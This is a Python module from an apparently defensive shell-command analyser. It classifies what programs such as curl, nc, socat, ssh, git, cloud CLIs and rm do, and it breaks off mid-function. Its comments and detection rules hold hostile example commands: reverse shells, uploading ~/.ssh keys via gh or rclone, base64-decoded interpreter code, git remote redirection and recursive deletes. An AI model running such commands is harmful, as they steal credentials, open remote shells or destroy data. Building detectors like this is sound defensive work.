"""What one simple command does, by program: the per-program half of :mod:`.shell`.

:func:`command` reads a program's arguments the way that program does (which options take
a value, which positional is a URL, a host, a source or a destination) and records the
facts on the walker :mod:`.shell` passes in: network destinations (``curl``, ``wget``,
``nc``, ``socat``, ``ssh``, ``scp``, ``rsync``, ``git``, package managers installing from a
URL, DNS tools), files read and uploaded, and files deleted or overwritten (``rm``,
``find -delete``, ``truncate``, ``dd of=``, ``shred``, ``mv``, ``cp``, ``tee``, ``sed -i``,
``curl -o``, ``wget -O``). Shells given a string (``sh -c``, ``eval``) are parsed in turn.
Pure: no I/O.
"""

from __future__ import annotations

import posixpath
import re
import shlex
from typing import Any, Protocol

from cordon.engine import _echo_printf, shell_links
from cordon.engine.code_aliases import unalias
from cordon.engine.code_reads import code_paths
from cordon.engine.code_runs import computed_run, literal_lines
from cordon.engine.code_urls import code_urls
from cordon.engine.code_writes import code_writes, in_place_files
from cordon.engine.container_sql import contained_commands, sql_only
from cordon.engine.containers import (
    ContainerRun,
    container_run,
    exec_root_line,
    host_root_line,
    subroot_runs,
)
from cordon.engine.credential_paths import credential_reads
from cordon.engine.find_exec import exec_lines, read_lines, split_find
from cordon.engine.git_commands import (
    GIT_VALUE,
    config_command,
    config_setting,
    rewrite_base,
    rewrites,
    runs_program,
    setting_runs,
)
from cordon.engine.interpreter_options import (
    CODE_OPTS,
    deno_code,
    interpreter,
    option_word,
    remote_script,
)
from cordon.engine.pwsh_code import pwsh_commands, pwsh_computed_call, pwsh_files, pwsh_lines
from cordon.engine.remote_stdin import reads_lines
from cordon.engine.remote_writes import remote_writes
from cordon.engine.shell_downloads import curl_saves, wget_saves
from cordon.engine.shell_split import split as _split
from cordon.engine.shell_writers import file_writes
from cordon.engine.sql_clients import more_args
from cordon.engine.sql_programs import SQL_CLIENTS, SQL_FILE_CLIENTS, sql_args, sql_client
from cordon.engine.system_commands import WINDOWS_PROGRAMS
from cordon.engine.typed_input import typed_text

__all__ = [
    "DYNAMIC",
    "KNOWN_PROGRAMS",
    "NETWORK_PROGRAMS",
    "SHELLS",
    "base_name",
    "command",
    "interpreter",
    "interpreter_code",
]

#: stands for a value known only at run time (command output, an unset variable)
DYNAMIC = "\x00"
_GLOB_CHARS = frozenset("*?[")
SHELLS = frozenset(
    {"sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "busybox", "fish", "csh", "tcsh"}
)


class Walker(Protocol):
    """What :func:`command` records facts on (:class:`cordon.engine.shell._Walker`)."""

    def file(self, path: str, program: str, op: str) -> None: ...
    def net(self, kind: str, value: str, program: str) -> None: ...
    def nested(self, text: str) -> None: ...
    def cd(self, args: tuple[str, ...]) -> None: ...
    def opaque(self, why: str) -> None: ...
    def sql(self, text: str) -> None: ...
    def remote_shell(self, why: str) -> None: ...
    def env_var(self, name: str, value: str) -> None: ...
    def contained(self, run: ContainerRun) -> None: ...
    def getenv(self, name: str) -> str | None: ...
    def remote_code(self, why: str) -> None: ...
    def symlink(self, name: str, target: str, relative: bool) -> None: ...


def base_name(word: str) -> str:
    """A program's name as it is judged: base name, lower case, ``.exe`` dropped."""
    base = posixpath.basename(word.replace("\\", "/")).lower()
    return base[:-4] if base.endswith(".exe") else base


# --------------------------------------------------------------------------------------------
# Network programs
# --------------------------------------------------------------------------------------------

_CURL_VALUE = frozenset(
    {
        "-d", "--data", "--data-binary", "--data-raw", "--data-ascii", "--data-urlencode",
        "--json", "-F", "--form", "--form-string", "-T", "--upload-file", "-o", "--output",
        "-H", "--header", "-x", "--proxy", "-u", "--user", "-X", "--request", "-A",
        "--user-agent", "-e", "--referer", "-b", "--cookie", "-c", "--cookie-jar", "-K",
        "--config", "--url", "-m", "--max-time", "--connect-timeout", "-w", "--write-out",
        "-r", "--range", "-E", "--cert", "--key", "--cacert", "--resolve", "--connect-to",
        "-U", "--proxy-user", "--retry", "-C", "--continue-at", "-z", "--time-cond",
        "--limit-rate", "-y", "-Y", "--interface", "--dns-servers", "--output-dir",
    }
)  # fmt: skip
_SCHEME_RE = re.compile(r"^[A-Za-z][A-Za-z0-9+.-]*://")


def _url(word: str) -> str:
    return word if _SCHEME_RE.match(word) else "http://" + word


def _curl(w: Walker, prog: str, args: tuple[str, ...]) -> None:
    plain, opts = _split(args, _CURL_VALUE)
    for k, v in opts:
        if k in ("-d", "--data", "--data-binary", "--data-ascii", "--json", "--data-urlencode"):
            if "@" in v and not v.startswith(("http", "-")):
                src = v.split("@", 1)[1]
                if src and src != "-":
                    w.file(src, prog, "upload")
        elif k in ("-F", "--form"):
            m = re.search(r"=[@<]([^;]+)", v)
            if m:
                w.file(m.group(1), prog, "upload")
        elif k in ("-T", "--upload-file"):
            if v not in ("-", "."):
                w.file(v, prog, "upload")
        elif k in ("-K", "--config"):
            w.file(v, prog, "read")
        elif k == "--url":
            w.net("url", _url(v), prog)
        elif k in ("-x", "--proxy") and v:
            w.net("url", _url(v), prog)
    for p in plain:
        w.net("url", _url(p), prog)
    curl_saves(w, prog, plain, opts)  # (-o F in --output-dir, -O: the URL's name)


_WGET_VALUE = frozenset(
    {"-O", "--output-document", "-o", "--output-file", "-i", "--input-file", "-P",
     "--directory-prefix", "-e", "--execute", "-U", "--user-agent", "-t", "--tries",
     "-T", "--timeout", "--header", "--post-data", "--post-file", "--body-file",
     "--body-data", "--method", "--user", "--password", "-a", "--append-output"}
)  # fmt: skip


def _wget(w: Walker, prog: str, args: tuple[str, ...]) -> None:
    plain, opts = _split(args, _WGET_VALUE)
    for k, v in opts:
        if k in ("--post-file", "--body-file"):
            w.file(v, prog, "upload")
        elif k in ("-O", "--output-document") and v != "-":
            w.file(v, prog, "overwrite")
        elif k in ("-i", "--input-file"):
            w.file(v, prog, "read")
    for p in plain:
        w.net("url", _url(p), prog)
    if prog in ("wget", "wget2"):
        wget_saves(w, prog, plain, opts)  # (without -O: the URL's name, in -P DIR)


_SSH_VALUE = frozenset(
    {"-p", "-i", "-l", "-o", "-F", "-J", "-L", "-R", "-D", "-b", "-c", "-e", "-m", "-O",
     "-S", "-W", "-w", "-E", "-B", "-Q", "-P"}
)  # fmt: skip
_REMOTE_RE = re.compile(r"^(?:[^@/:\s]+@)?(\[[^\]]+\]|[^@/:\s]{2,}):(?!//)")


def _host_of(target: str) -> str:
    """``user@host:path`` / ``user@host`` -> ``host``."""
    t = target.rsplit("@", 1)[-1]
    if t.startswith("["):
        return t[1 : t.find("]")] if "]" in t else t
    return t.split(":", 1)[0]


def _ssh(w: Walker, prog: str, args: tuple[str, ...]) -> None:
    plain, opts = _split(args, _SSH_VALUE)
    for k, v in opts:
        if k == "-J":
            for hop in v.split(","):
                w.net("host", _host_of(hop.split("://")[-1]), prog)
        elif k == "-F":
            w.file(v, prog, "read")
    if prog in ("ssh", "ssh-copy-id", "mosh", "autossh") and plain:
        target = plain[0]
        if target.startswith("ssh://"):
            target = target[6:].split("/", 1)[0]
        w.net("host", _host_of(target), prog)
        return
    _copy_remote(w, prog, plain)


def _copy_remote(w: Walker, prog: str, plain: list[str]) -> None:
    """scp/sftp/rsync: remote operands name hosts; local sources sent to a remote are
    uploads; a local destination is overwritten."""
    remote = []
    for p in plain:
        if p.startswith(("rsync://", "scp://", "sftp://")):
            remote.append(True)
            w.net("url", p, prog)
        elif _REMOTE_RE.match(p) and not p.startswith(("/", ".", "~")):
            remote.append(True)
            w.net("host", _host_of(p), prog)
        else:
            remote.append(False)
    if not plain:
        return
    dest_remote = remote[-1]
    for p, is_remote in zip(plain[:-1], remote[:-1], strict=True):
        if not is_remote:
            w.file(p, prog, "upload" if dest_remote else "read")
    if not dest_remote and len(plain) > 1:
        w.file(plain[-1], prog, "overwrite")


_NC_VALUE = frozenset(
    {"-p", "-s", "-w", "-i", "-e", "-c", "-x", "-X", "-q", "--exec", "--sh-exec", "--lua-exec"}
)
#: netcat options that run a program with its stdin and stdout on the connection
_NC_EXEC = frozenset({"-e", "-c", "--exec", "--sh-exec", "--lua-exec"})


def _nc(w: Walker, prog: str, args: tuple[str, ...]) -> None:
    plain, opts = _split(args, _NC_VALUE)
    hosts = [p for p in plain if not p.isdigit() and not re.fullmatch(r"\d+-\d+", p)]
    for h in hosts[:1]:
        w.net("host", h, prog)
    # Attack class: a reverse (or bind) shell: every line the peer sends is run.
    for k, v in opts:
        if k in _NC_EXEC:
            w.remote_shell(f"{prog} {k} {v}".strip())


_SOCAT_NET = re.compile(
    r"^(?:tcp|tcp4|tcp6|udp|udp4|udp6|tcp-connect|tcp4-connect|tcp6-connect|udp-connect|"
    r"openssl|openssl-connect|ssl|socks4|socks4a|socks5|proxy|proxy-connect):([^,]+)",
    re.IGNORECASE,
)


_SOCAT_EXEC = re.compile(r"^(?:exec|system):", re.IGNORECASE)
_SOCAT_ANY_NET = re.compile(
    r"^(?:tcp|udp|sctp|dccp|openssl|ssl|socks|proxy|vsock)[\w-]*:", re.IGNORECASE
)


def _socat(w: Walker, prog: str, args: tuple[str, ...]) -> None:
    # Attack class: a reverse (or bind) shell, a program on one end and the network on the
    # other (``socat TCP:host:port EXEC:/bin/sh``).
    if any(_SOCAT_EXEC.match(a) for a in args) and any(_SOCAT_ANY_NET.match(a) for a in args):
        w.remote_shell(f"{prog}: a program on one end of a network connection")
    for a in args:
        m = _SOCAT_NET.match(a)
        if m:
            hostport = m.group(1)
            w.net("host", hostport.rsplit(":", 1)[0] if ":" in hostport else hostport, prog)
        elif re.match(r"^(?:open|file|gopen|create):", a, re.IGNORECASE):
            w.file(a.split(":", 1)[1].split(",", 1)[0], prog, "read")


def _git(w: Walker, prog: str, args: tuple[str, ...]) -> None:
    plain, opts = _split(args, GIT_VALUE | {"--config"})  # (git clone --config K=V)
    for k, v in opts:
        why = setting_runs(v) if k in ("-c", "--config") else None
        if k == "--exec-path" and v:  # (git's own programs run from DIR: git(1))
            why = f"git --exec-path={v[:60]!r}: git runs its programs from there"
        if k == "--template" and plain[:1] in (["init"], ["clone"]):  # (its hooks copied)
            why = f"git {plain[0]} --template: hooks copied into the new repository"
        if k == "--config-env" and runs_program(v.rpartition("=")[0]):
            why = f"git --config-env {v[:60]!r}: a program named in the environment"
        if k == "--config-env" and rewrites(v.rpartition("=")[0]):
            why = f"git --config-env {v[:60]!r}: a destination named in the environment"
        base = rewrite_base(v) if k in ("-c", "--config") else None
        if base is not None:  # (-c url.EVIL.insteadOf=https://github.com/ push)
            why = f"git {k} {v[:80]!r}: fetches and pushes sent to {base[:60]!r} instead"
        if why is not None:  # (-c core.hooksPath=DIR commit: hooks no word names; ask)
            w.opaque(why)
        script = config_command(v) if k == "-c" else None
        if script is not None:  # (-c core.sshCommand=..., -c alias.x='!...')
            w.nested(script)
        elif base is not None:
            _git_remote(w, prog, base)  # (where git connects: the base, not the old URL)
        elif k == "-c" and "=" in v and ("url" in v.lower() or "proxy" in v.lower()):
            value = v.split("=", 1)[1]
            if "://" in value:
                w.net("url", value, prog)
        elif k in ("--upload-pack", "--receive-pack", "--exec", "-u"):
            w.opaque(f"{prog}: runs a program named in an option")
        elif k in ("--remote",) and v:
            _git_remote(w, prog, v)
    rest = args[args.index("config") + 1 :] if plain[:1] == ["config"] else None
    setting = config_setting(rest) if rest is not None else None
    script = config_command(setting or "")
    if setting is not None and setting_runs(setting) is not None:  # (a later git runs it)
        w.opaque(f"git config: {setting_runs(setting)}")
    if setting is not None and rewrite_base(setting) is not None:  # (a later push goes there)
        w.opaque(f"git config {setting[:80]!r}: fetches and pushes sent elsewhere")
    if script is not None:  # (git config core.sshCommand CMD: run by a later git command)
        w.nested(script)
    for p in plain[1:]:
        _git_remote(w, prog, p)


def _git_remote(w: Walker, prog: str, p: str) -> None:
    if "::" in p and not p.startswith(("/", ".")):  # ext::sh -c ..., a transport helper
        w.opaque(f"{prog}: a remote helper address")
    elif _SCHEME_RE.match(p) and not p.lower().startswith("file:"):
        w.net("url", p.removeprefix("git+"), prog)
    elif _REMOTE_RE.match(p) and "@" in p.split(":", 1)[0]:
        w.net("host", _host_of(p), prog)


_PKG_URL_OPTS = frozenset(
    {"-i", "--index-url", "--extra-index-url", "-f", "--find-links", "--registry",
     "--index", "--default-index", "--trusted-host"}
)  # fmt: skip
_PKG_VALUE = frozenset({*_PKG_URL_OPTS, "-r", "--requirement", "-c", "--constraint", "-t",
                        "--target", "-e", "--editable", "--prefix", "--python", "-p"})  # fmt: skip


#: the directories a package manager installs, downloads or builds into (pip's ``--target``,
#: ``--prefix``, ``--root``; npm's ``--prefix``): written as ``cp -r PKG DIR`` writes DIR
_PKG_DIRS = {
    "pip": frozenset({"-t", "--target", "--prefix", "--root", "--src", "-d", "--dest", "-w",
                      "--wheel-dir"}),
    "npm": frozenset({"--prefix", "-C"}),
    "pnpm": frozenset({"--dir", "-C", "--modules-dir", "--virtual-store-dir"}),
    "yarn": frozenset({"--cwd", "--modules-folder"}),
}  # fmt: skip
_PKG_DIRS["pip3"] = _PKG_DIRS["uv"] = _PKG_DIRS["pip"]


def _package(w: Walker, prog: str, args: tuple[str, ...]) -> None:
    dirs = _PKG_DIRS.get(prog, frozenset())
    for k, v in _split(args, dirs)[1] if dirs else ():  # (pip install -t /opt/x)
        if k in dirs and v:
            w.file(v, prog, "overwrite")
    plain, opts = _split(args, _PKG_VALUE)
    for k, v in opts:
        if k in _PKG_URL_OPTS and v:
            w.net(
                "host" if k == "--trusted-host" else "url",
                v if k == "--trusted-host" else _url(v),
                prog,
            )
        elif k in ("-e", "--editable") and "://" in v:
            w.net("url", v.split("+", 1)[-1], prog)
    for p in plain:
        spec = p.split("@", 1)[1].strip() if " @ " in p or "@ " in p else p
        spec = re.sub(r"^(?:git|hg|svn|bzr)\+", "", spec)
        if _SCHEME_RE.match(spec) and not spec.lower().startswith("file:"):
            w.net("url", spec, prog)


def _dns(w: Walker, prog: str, args: tuple[str, ...]) -> None:
    plain, _ = _split(args, frozenset({"-t", "-p", "-c", "-W", "-i", "-q", "-f", "-b", "-x", "-s"}))
    for p in plain:
        if "." in p or ":" in p:
            w.net("host", p.lstrip("@"), prog)


_GH_VALUE = frozenset(
    {"-d", "--desc", "-f", "--filename", "-R", "--repo", "-t", "--title", "-b", "--body",
     "-F", "--body-file", "-n", "--notes", "--notes-file", "--target", "-w"}
)  # fmt: skip
_REMOTE_SPEC_RE = re.compile(r"^(?:s3|gs|az|r2|b2|wasbs?)://|^[A-Za-z0-9_.-]{2,}:(?!//)")


def _uploads(w: Walker, prog: str, sources: list[str], dest: str | None) -> None:
    """Local ``sources`` sent to a remote ``dest`` (bucket URL, ``remote:path``) are uploads."""
    if dest is None or not _REMOTE_SPEC_RE.match(dest):
        return
    for src in sources:
        if not _REMOTE_SPEC_RE.match(src) and src != "-":
            w.file(src, prog, "upload")


def _cloud_cli(w: Walker, prog: str, args: tuple[str, ...]) -> None:
    """Files forge and cloud CLIs upload.

    Attack class: a credential sent by a program the table above did not know: ``gh gist
    create ~/.ssh/id_rsa``, ``gh release upload``, ``rclone copy ~/.ssh remote:x``, ``aws s3
    cp``, ``gsutil cp``, ``gcloud storage cp``, ``az storage blob upload --file``."""
    plain, opts = _split(args, _GH_VALUE if prog == "gh" else frozenset({"--body", "--file", "-f"}))
    verb = tuple(plain[:2])
    if prog == "gh":
        files = plain[2:] if verb in (("gist", "create"), ("gist", "edit")) else []
        if verb in (("release", "upload"), ("release", "create")):
            files = plain[3:]
        for k, v in opts:
            if k in ("-F", "--body-file", "--notes-file") and v != "-":
                files.append(v)
        for f in files:
            if f != "-":
                w.file(f.split("#", 1)[0], prog, "upload")
        return
    if prog in ("aws", "az"):
        for k, v in opts:
            if k in ("--body", "--file", "-f") and v and not v.startswith(("s3://", "http")):
                w.file(v.removeprefix("fileb://").removeprefix("file://"), prog, "upload")
    rest = plain[2:] if prog in ("aws", "gcloud") else plain[1:]
    if len(rest) >= 2 and (prog != "gcloud" or plain[:1] == ["storage"]):
        _uploads(w, prog, rest[:-1], rest[-1])


_SCRIPT_URL_RE = re.compile(r"(?:https?|ftp)://|^(?:javascript|vbscript):|[\\/]i:https?:", re.I)


def _lolbin(w: Walker, prog: str, args: tuple[str, ...]) -> None:
    """Windows binaries that fetch and run a script (attack class: remote content run,
    as ``curl | sh``): ``mshta URL``, ``mshta vbscript:``, ``regsvr32 /i:URL scrobj.dll``,
    ``rundll32 javascript:``, ``msiexec /i URL``."""
    for a in args:
        if _SCRIPT_URL_RE.search(a.strip("\"'")):
            w.remote_shell(f"{prog} runs a script from {a[:40]!r}")
            return


NETWORK_PROGRAMS: dict[str, Any] = {
    "curl": _curl, "wget": _wget, "wget2": _wget, "aria2c": _wget, "http": _wget,
    "https": _wget, "xh": _wget, "lynx": _wget, "w3m": _wget, "links": _wget,
    "nc": _nc, "ncat": _nc, "netcat": _nc, "telnet": _nc, "socat": _socat,
    "ssh": _ssh, "ssh-copy-id": _ssh, "mosh": _ssh, "autossh": _ssh, "scp": _ssh,
    "sftp": _ssh, "rsync": _ssh, "git": _git,
    "pip": _package, "pip3": _package, "pipx": _package, "uv": _package, "npm": _package,
    "npx": _package, "yarn": _package, "pnpm": _package, "bun": _package, "gem": _package,
    "easy_install": _package, "poetry": _package, "conda": _package,
    "dig": _dns, "nslookup": _dns, "host": _dns, "ping": _dns, "ping6": _dns,
    "traceroute": _dns, "whois": _dns, "drill": _dns,
    "gh": _cloud_cli, "rclone": _cloud_cli, "aws": _cloud_cli, "gsutil": _cloud_cli,
    "gcloud": _cloud_cli, "az": _cloud_cli,
    "mshta": _lolbin, "regsvr32": _lolbin, "rundll32": _lolbin, "msiexec": _lolbin,
}  # fmt: skip


# --------------------------------------------------------------------------------------------
# Deletes, overwrites, reads
# --------------------------------------------------------------------------------------------

_DELETERS = frozenset({"rm", "rmdir", "unlink", "shred", "srm", "trash", "trash-put", "wipe"})
DELETERS = _DELETERS
#: programs that replace their target (a new file renamed over it, or a new link), not write
#: into it: ``mv x /dev/null`` as root replaces the device node with a file
REPLACERS = frozenset({"mv", "install", "ln", "rsync", "sed"})
_STREAM_RE = re.compile(r"/dev/(?:null|zero|full|stdout|stderr|tty|fd/\d+)|/proc/self/fd/\d+")


def stream_device(path: str) -> bool:
    """A device a write goes into and deletes nothing: the null and full devices, the
    standard streams, the terminal, an open file descriptor (``tee /dev/null``)."""
    return path.startswith(("/dev/", "/proc/")) and _STREAM_RE.fullmatch(path) is not None


_READERS = frozenset(
    {
        "cat", "tac", "head", "tail", "less", "more", "nl", "grep", "egrep", "fgrep", "rg",
        "ag", "awk", "gawk", "base64", "base32", "basenc", "xxd", "od", "hexdump", "strings",
        "cut", "sort", "uniq", "wc", "diff", "cmp", "tar", "zip", "gzip", "bzip2", "xz",
        "zstd", "7z", "gpg", "openssl", "jq", "yq", "source", ".", "paste", "fold", "rev",
        "column", "iconv", "md5sum", "sha1sum", "sha256sum", "split", "bat", "view", "vi",
        "vim", "nano", "emacs", "perl", "ruby", "php", "tr", "expand", "fmt", "pr", "look",
        "xmllint", "xmlstarlet", "xq", "tomlq", "gron", "dasel", "mlr", "mawk", "nawk", "ugrep",
        "ack", "pcregrep", "zcat", "bzcat", "xzcat", "zstdcat", "zless", "zmore", "zgrep",
        "bzgrep", "xzgrep", "batcat", "hd", "hexyl", "most", "nvim", "ex", "uuencode", "shuf",
        "comm", "join", "unexpand", "csplit", "sha512sum", "sha224sum", "sha384sum", "b2sum",
        "cksum", "shasum", "sops",
    }
)  # fmt: skip


def _writes(w: Walker, prog: str, args: tuple[str, ...]) -> bool:
    """Deletes and overwrites; True when ``prog`` was one of these programs."""
    if prog in _DELETERS:
        for p in _split(args, frozenset({"-n", "--iterations", "-s", "--size"}))[0]:
            w.file(p, prog, "delete")
    elif prog == "find":
        _find(w, prog, args)
    elif prog == "truncate":
        for p in _split(args, frozenset({"-s", "--size", "-r", "--reference"}))[0]:
            w.file(p, prog, "overwrite")
    elif prog == "dd":
        for a in args:
            if a.startswith("of="):
                w.file(a[3:], prog, "overwrite")
            elif a.startswith("if="):
                w.file(a[3:], prog, "read")
    elif prog in ("mv", "cp", "install", "ln", "link", "rsync"):
        plain, opts = _split(args, frozenset({"-t", "--target-directory", "-S", "--suffix",
                                              "-m", "--mode", "-o", "--owner", "-g", "--group"}))  # fmt: skip
        target = next((v for k, v in opts if k in ("-t", "--target-directory")), None)
        sources = plain if target is not None else plain[:-1]
        for s in sources:
            w.file(s, prog, "delete" if prog == "mv" else "read")
        dest = target if target is not None else (plain[-1] if len(plain) > 1 else None)
        if dest is not None:
            w.file(dest, prog, "overwrite")
    elif prog == "tee":
        for p in _split(args, frozenset())[0]:
            w.file(p, prog, "overwrite")
    else:
        return False
    return True


def _find(w: Walker, prog: str, args: tuple[str, ...]) -> None:
    starts, rest = split_find(args)  # (find -L DIR: options before the start paths)
    for k, a in enumerate(rest[:-1]):  # (find's own output files: -fprint .envrc)
        if a in ("-fprint", "-fprint0", "-fprintf", "-fls"):
            w.file(rest[k + 1], prog, "overwrite")
    for line in exec_lines(args):  # (-exec curl -F f=@{} URL ;: read with {} a found path)
        w.nested(line)
    for line in read_lines(args):  # (-name 'id_*' -exec cat {} ;: with {} ~/.ssh/id_rsa)
        w.nested(line)
    deletes = "-delete" in rest
    for k, a in enumerate(rest):
        if a in ("-exec", "-execdir", "-ok", "-okdir") and k + 1 < len(rest):
            end = next((j for j in range(k + 1, len(rest)) if rest[j] in (";", "+")), len(rest))
            inner = [x for x in rest[k + 1 : end]]
            deletes = deletes or base_name(inner[0]) in _DELETERS or base_name(inner[0]) in SHELLS
    if deletes:
        for s in starts:
            w.file(s, prog, "delete")


def _reads(w: Walker, prog: str, args: tuple[str, ...]) -> None:
    for a in args:
        if a.startswith("-") and "=" in a:
            w.file(a.split("=", 1)[1], prog, "read")
        elif not a.startswith("-") and a:
            w.file(a, prog, "read")
            for path in credential_reads(a)[:4] if _GLOB_CHARS & set(a) else ():
                w.file(path, prog, "read")  # (head ~/.[s]sh/id_*: ~/.ssh/id_rsa)


def command(w: Walker, prog: str, args: tuple[str, ...], argv0: str, redirects: list[Any]) -> None:
    """Record what ``prog args`` does on ``w`` (``argv0`` as written, before unwrapping)."""
    if DYNAMIC in prog or not prog:
        w.opaque("a program name computed at run time")
        return
    if prog in SHELLS:
        plain, opts = _split(args, frozenset({"-c", "-o", "+o", "-O"}))
        script = next((v for k, v in opts if k == "-c"), None)
        if script is not None:
            w.nested(script)
        elif plain and not any(k == "-s" for k, _ in opts):
            w.file(plain[0], prog, "read")
            if DYNAMIC in plain[0]:  # (bash <(CMD): the script is CMD's output)
                w.opaque(f"{prog} runs a script computed at run time")
        return
    if prog in ("source", ".") and args and DYNAMIC in args[0]:
        w.opaque(f"{prog} runs a script computed at run time")  # (source <(CMD))
    if prog == "eval":
        w.nested(" ".join(args))
        return
    if _binds_name(prog, args):  # (hash -p /bin/rm x; x -rf /)
        w.opaque(f"{prog} binds a command name to another program: a later word runs it")
        return
    if prog in ("export", "declare", "typeset", "readonly", "local"):
        for a in args:
            name, eq, value = a.partition("=")
            if eq and not a.startswith("-"):
                w.env_var(name, value)
        return
    if (client := sql_client(prog, args)) is not None:  # (clickhouse client -q SQL too)
        sql_args(w, *client)
        more_args(w, *client)  # (bq query SQL, sqlplus @FILE, an option not known: asked)
    else:  # (docker exec db psql -c 'DROP TABLE users', docker exec db sh -c "psql -c ...")
        for inner in contained_commands(prog, args):
            if (client := sql_client(*inner)) is not None:
                sql_args(sql_only(w), *client)
                more_args(sql_only(w), *client)
    _code_args(w, prog, args)
    if prog == "cd" or prog == "pushd":
        w.cd(args)
        return
    if prog in ("python", "python3", "py") and args[:2] and args[0] == "-m" and len(args) > 1:
        if args[1] in ("pip", "pip3"):
            _package(w, args[1], args[2:])
        return
    typed = typed_text(prog, args)  # (tmux send-keys 'rm -rf ~/x' Enter)
    if typed is not None:
        w.nested(typed)
    run = container_run(prog, args)  # (docker run -v /:/host IMAGE rm -rf /host/etc)
    for each in (run, *subroot_runs(run)) if run is not None else ():
        w.contained(each)  # (and chroot /host/etc rm -rf nginx: /etc/nginx)
    line = host_root_line(run) if run is not None else exec_root_line(prog, args)
    if line is not None:  # (chroot /host CMD: CMD runs here; docker exec CTR chroot DIR CMD)
        w.nested(line)
    for path, program, op in remote_writes(prog, args):  # (ssh HOST rm -rf /etc/nginx)
        w.file(path, program, op)
    handler = NETWORK_PROGRAMS.get(prog)
    if handler is not None:
        handler(w, prog, args)
        if prog == "rsync":
            return
    if file_writes(w, prog, args) or _writes(w, prog, args):  # (tar, sed, touch: file_writes)
        return
    if prog in _READERS:
        _reads(w, prog, args)


def _binds_name(prog: str, args: tuple[str, ...]) -> bool:
    """``hash -p PATH NAME``, ``alias NAME=VALUE`` (expanded by dash and zsh scripts, and bash
    with ``expand_aliases``) and ``enable -f LIB NAME`` (a builtin loaded from a shared
    object): a later ``NAME`` runs a program the words do not name."""
    opts = [a for a in args if a.startswith("-") and not a.startswith("--")]
    if prog == "hash" or prog == "enable":
        return any(("p" if prog == "hash" else "f") in a for a in opts)
    return prog == "alias" and any("=" in a for a in args if not a.startswith("-"))


# --------------------------------------------------------------------------------------------
# Interpreters and database clients: program text and SQL a command is given
# --------------------------------------------------------------------------------------------

_STDIN_NAMES = frozenset({"-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"})
#: the :func:`stdin_kind` kinds whose program runs what its standard input holds (a network
#: peer connected there: a reverse shell)
RUNS_INPUT = frozenset({"shell", "code", "remote"})


#: PowerShell options that take a value (names as written, any case, without the dash)
_PWSH_VALUE = frozenset(
    {"w", "windowstyle", "ep", "ex", "executionpolicy", "version", "v", "wd",
     "workingdirectory", "inputformat", "outputformat", "if", "of", "configurationname",
     "settingsfile", "psconsolefile"}
)  # fmt: skip


def _pwsh_encoded(low: str) -> bool:
    """A PowerShell ``-EncodedCommand`` in any accepted spelling: ``-e``, ``-ec``, ``-enc``
    or any other prefix of the name (PowerShell takes unambiguous prefixes)."""
    name = low.lstrip("-")
    return low.startswith("-") and (
        name == "ec" or (bool(name) and "encodedcommand".startswith(name))
    )


def interpreter_code(fam: str, args: tuple[str, ...]) -> tuple[bool, list[str]]:
    """(reads its program from stdin, program texts given in options) for an interpreter;
    every program-text option is read (``perl -e A -e B``, ``Rscript -e A -e B``)."""
    if fam == "deno":
        return deno_code(args)
    opts = CODE_OPTS[fam]
    codes: list[str] = []
    i = 0
    while i < len(args):
        a = args[i]
        low = a.lower()
        if fam == "pwsh" and _pwsh_encoded(low):
            return False, [*codes, DYNAMIC]  # base64 of UTF-16: text no rule reads
        if fam == "pwsh" and low.lstrip("-") in _PWSH_VALUE and i + 1 < len(args):
            i += 2  # (-WindowStyle Hidden: a value, not a script file)
            continue
        if a in _STDIN_NAMES:
            return not codes, codes
        if a == "--" or not a.startswith("-"):
            rest = args[i + 1 :] if a == "--" else args[i:]
            return not codes and (not rest or rest[0] in _STDIN_NAMES), codes
        kind, i, value = option_word(fam, opts, args, i)
        if kind == "code":
            codes.append(value)
        if kind == "module":  # (python -m MODULE)
            return False, codes
    return not codes, codes


def stdin_kind(prog: str, args: tuple[str, ...]) -> str | None:
    """What ``prog args`` makes of its stdin: ``shell`` (a shell reads its program there),
    ``code`` (another interpreter does), ``sql`` (a database client), ``remote`` (a shell
    on another host or in a container does: :mod:`.remote_stdin`), or None (data)."""
    if prog in ("source", ".") and args[:1] and args[0] in _STDIN_NAMES:
        return "shell"  # (``source /dev/stdin``: the shell itself runs what stdin holds)
    if prog in SHELLS and prog != "busybox":
        plain, opts = _split(args, frozenset({"-c", "-o", "+o", "-O"}))
        if any(k == "-c" for k, _ in opts):
            return None
        reads = not plain or plain[0] in _STDIN_NAMES or any(k == "-s" for k, _ in opts)
        return "shell" if reads else None  # (sh -s ARGS: the script on stdin, ARGS its $1...)
    fam = interpreter(prog)
    if fam is not None or prog in ("ed", "red"):  # (ed reads its commands on stdin)
        return "code" if fam is None or interpreter_code(fam, args)[0] else None
    if sql_client(prog, args) is not None:
        return "sql"
    # (echo 'DROP TABLE t' | docker exec -i db psql, | ssh db 'cd /srv && psql app')
    if any(sql_client(*inner) is not None for inner in contained_commands(prog, args)):
        return "sql"
    return "remote" if reads_lines(prog, args) else None  # (echo CMD | ssh HOST)


def literal_output(cmd: tuple[str, tuple[str, ...]] | None) -> str | None:
    """What ``echo`` or ``printf`` with literal arguments writes, escapes decoded as bash
    and dash both do (:mod:`._echo_printf`; :data:`DYNAMIC` in it where the shell decides,
    and where their readings differ: a reader that judges both takes
    :func:`._echo_printf.readings`); None for anything else (known only at run time)."""
    if cmd is None:
        return None
    both = _echo_printf.readings(*cmd)
    return None if both is None else both[0] if len(both) == 1 else DYNAMIC


def _code_args(w: Walker, prog: str, args: tuple[str, ...]) -> None:
    """Program text given to an interpreter in an option, computed at run time: opaque.

    Attack class: ``python3 -c "$(echo B64 | base64 -d)"``, ``pwsh -EncodedCommand B64``."""
    fam = interpreter(prog)
    if fam is None:
        return
    for code in interpreter_code(fam, args)[1]:
        if DYNAMIC in code:
            w.opaque(f"{prog} runs program text computed at run time")
        else:
            code_files(w, prog, code)
    remote = remote_script(fam, args)  # (deno run URL: remote content run, as curl | sh)
    if remote is not None:
        w.net("url", remote[0], prog)
        why = f"{prog} runs a script fetched from {remote[0][:60]!r}"
        w.remote_code(why) if remote[1] else w.opaque(f"{why}, or an option's value")
    for path in in_place_files(fam, args):  # (perl -pi -e CODE FILE)
        w.file(path, prog, "overwrite")


def code_files(w: Walker, prog: str, code: str) -> None:
    """The files literal program text of the interpreter ``prog`` deletes or overwrites
    (``python -c "os.remove('/etc/x')"``; :mod:`.code_writes`), and the URLs it names: its
    network destinations, as curl's URL (``urlopen('http://h/')``; :mod:`.code_urls`)."""
    fam = interpreter(prog)
